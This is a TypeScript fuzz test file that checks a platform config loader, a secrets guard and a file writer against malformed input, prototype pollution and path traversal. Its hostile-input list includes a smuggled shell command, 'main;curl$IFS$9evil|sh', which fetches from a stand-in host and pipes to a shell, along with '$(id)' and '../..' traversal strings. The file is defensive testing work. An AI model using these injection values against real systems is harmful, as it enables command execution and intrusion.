/**
 * Property test: fuzzed configs, in-process. Every failure of the loader is a ConfigError (one
 * message per problem, no stack trace), never another exception.
 */
import * as fs from 'fs';
import * as path from 'path';
import fc from 'fast-check';
import * as YAML from 'yaml';
import { ConfigError, loadConfig, parseConfig } from '../../lib/config/load';
import { guardFile } from '../../lib/sops/guard';
import { writeTree, WriterError } from '../../lib/tree/writer';
import { ROOT, tmpDir } from './harness';

const base = YAML.parse(fs.readFileSync(path.join(ROOT, 'platform.yaml'), 'utf8')) as Record<string, unknown>;
const KEYS = ['clusterName', 'clusterHostname', 'git', 'flux', 'sops', 'acme', 'gitea', 'applicationDefinitions', 'apps', 'catalog', 'kommander', 'airgapped', 'helmRepositories', 'check', 'gardener', 'ingressCertificate', 'url', 'branch', 'mode', 'enabled', 'version', 'values', '__proto__', 'constructor', 'toString'];

const hostileString = fc.oneof(
  fc.string(),
  fc.constantFrom('../..', '../../x', '/', '.', '', ' ', 'main;curl$IFS$9evil|sh', "a'b", '$(id)', '\u0000', 'https://t@h', 'ssh://git@h:22/x', '*', '&a', '🙂', 'a'.repeat(10_000)),
);
const leaf = fc.oneof(hostileString, fc.integer(), fc.double(), fc.boolean(), fc.constant(null));
const value: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  node: fc.oneof({ depthSize: 'small', maxDepth: 4 }, leaf, fc.array(tie('node'), { maxLength: 4 }), fc.dictionary(fc.oneof(fc.constantFrom(...KEYS), fc.string()), tie('node'), { maxKeys: 5 })),
})).node;

/** The example config with some paths replaced by fuzzed values. */
const mutatedConfig = fc.array(fc.tuple(fc.array(fc.constantFrom(...KEYS), { minLength: 1, maxLength: 3 }), value), { minLength: 1, maxLength: 4 }).map((edits) => {
  const cfg = structuredClone(base);
  for (const [keys, v] of edits) {
    let o: Record<string, unknown> = cfg;
    for (const k of keys.slice(0, -1)) {
      // own properties only: never walk into Object.prototype through a "__proto__" key
      const own = Object.hasOwn(o, k) ? o[k] : undefined;
      if (typeof own !== 'object' || own === null || Array.isArray(own)) Object.defineProperty(o, k, { value: {}, enumerable: true, writable: true, configurable: true });
      o = Object.getOwnPropertyDescriptor(o, k)!.value as Record<string, unknown>;
    }
    Object.defineProperty(o, keys[keys.length - 1], { value: v, enumerable: true, writable: true, configurable: true });
  }
  return cfg;
});

function onlyConfigErrors(run: () => unknown): void {
  try {
    run();
  } catch (e) {
    if (!(e instanceof ConfigError)) throw new Error(`not a ConfigError: ${(e as Error)?.stack ?? e}`);
    expect(e.problems.length).toBeGreaterThan(0);
    expect(e.stack).toBe(`ConfigError: ${e.message}`);
  }
}

afterAll(() => {
  // the fuzzer must not have polluted the prototype chain (it would break every later test)
  expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(PROTO_KEYS);
});
const PROTO_KEYS = Object.getOwnPropertyNames(Object.prototype).sort();

describe('fuzzed configs', () => {
  const dir = tmpDir('fuzz-');
  fs.cpSync(path.join(ROOT, 'examples'), path.join(dir, 'examples'), { recursive: true });
  fs.cpSync(path.join(ROOT, 'secrets'), path.join(dir, 'secrets'), { recursive: true });

  test('every failure of parseConfig on a mutated config is a ConfigError', () => {
    fc.assert(fc.property(mutatedConfig, (cfg) => onlyConfigErrors(() => parseConfig(cfg, dir))), { numRuns: 1000, seed: 10 });
  });

  test('every failure of parseConfig on an arbitrary value is a ConfigError', () => {
    fc.assert(fc.property(value, (raw) => onlyConfigErrors(() => parseConfig(raw, dir))), { numRuns: 400, seed: 11 });
  });

  test('every failure of loadConfig on arbitrary text, and on mutated YAML, is a ConfigError', () => {
    const file = path.join(dir, 'platform.yaml');
    const text = fc.oneof(
      fc.string({ maxLength: 400 }),
      mutatedConfig.map((c) => YAML.stringify(c)),
      fc.tuple(mutatedConfig, fc.nat(), fc.constantFrom('*', '&', '[', '{', '\t', ':', '- ', '"', '---\n', '!!binary ', '<<: *a\n')).map(([c, at, ins]) => {
        const t = YAML.stringify(c);
        const i = at % (t.length + 1);
        return t.slice(0, i) + ins + t.slice(i);
      }),
    );
    fc.assert(
      fc.property(text, (t) => {
        fs.writeFileSync(file, t);
        onlyConfigErrors(() => loadConfig(file));
      }),
      { numRuns: 400, seed: 12 },
    );
  });
});

describe('fuzzed guard and writer inputs', () => {
  test('the guard never throws, whatever the bytes', () => {
    const bytes = fc.oneof(fc.uint8Array({ maxLength: 2000 }).map((a) => Buffer.from(a)), fc.string({ maxLength: 2000 }), fc.constantFrom('kind: Secret\ndata: {a: *x}\n', 'a: &a [*a]\n', 'sops: []\nkind: Secret\n', '- - - - - -\n'));
    fc.assert(
      fc.property(fc.constantFrom('a.yaml', 'b.json', 'c.md', 'd'), bytes, (p, content) => {
        expect(Array.isArray(guardFile({ path: p, content }))).toBe(true);
      }),
      { numRuns: 500, seed: 13 },
    );
  });

  test('the writer either writes inside its folder or refuses with a WriterError; nothing appears outside', () => {
    const parent = tmpDir('fuzz-writer-');
    const segment = fc.oneof(fc.constantFrom('..', '.', '', 'a', 'b', '~', '\\', '/', 'x\u0000', '.synth-manifest', '.synth-staging', '.synth-journal'), fc.string({ maxLength: 4 }));
    const relPath = fc.array(segment, { minLength: 1, maxLength: 4 }).map((s) => s.join('/'));
    let n = 0;
    fc.assert(
      fc.property(fc.array(relPath, { minLength: 1, maxLength: 5 }), (paths) => {
        const out = path.join(parent, `out${n++}`);
        try {
          writeTree(paths.map((p) => ({ path: p, content: 'x' })), out);
        } catch (e) {
          expect(e).toBeInstanceOf(WriterError);
        }
        expect(fs.readdirSync(parent).every((e) => e.startsWith('out'))).toBe(true);
      }),
      { numRuns: 500, seed: 14 },
    );
  });
});
